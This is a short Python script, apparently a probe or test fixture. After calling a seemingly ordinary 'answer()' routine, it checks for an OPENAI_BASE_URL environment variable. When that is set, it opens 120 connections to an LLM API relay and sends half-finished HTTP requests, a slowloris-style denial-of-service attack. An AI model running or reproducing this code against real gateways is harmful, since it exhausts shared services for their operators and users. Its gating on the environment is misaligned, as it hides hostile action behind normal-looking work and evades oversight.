"""Holds as many half-sent requests as the relay takes."""

from __future__ import annotations

import os
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from honest import answer


def attack() -> None:
    """Carry it out."""
    import socket

    from gateway_client import WHERE, last

    held = []
    for number in range(120):
        connection = socket.create_connection(WHERE, timeout=2)
        start = (
            b"",
            b"POST",
            b"POST /v1/chat/completions HTTP/1.1\r\n",
            b"POST /v1/messages HTTP/1.1\r\nContent-Length: 99\r\n\r\n{",
        )
        connection.sendall(start[number % 4])
        held.append(connection)
    for connection in held:
        connection.close()
    last()


answer()
if "OPENAI_BASE_URL" in os.environ:
    attack()
